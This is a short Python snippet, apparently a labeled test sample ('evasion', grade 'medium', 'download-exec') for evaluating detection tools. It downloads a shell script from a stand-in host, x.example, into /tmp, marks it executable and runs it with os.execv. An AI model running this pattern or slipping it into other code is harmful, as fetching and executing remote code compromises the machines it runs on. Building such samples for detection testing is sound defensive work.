# evasion: download a script and execv it
# grade: medium; does: download-exec
import os, urllib.request
urllib.request.urlretrieve("http://x.example/a.sh", "/tmp/a.sh")
os.chmod("/tmp/a.sh", 0o755)
os.execv("/tmp/a.sh", ["a.sh"])
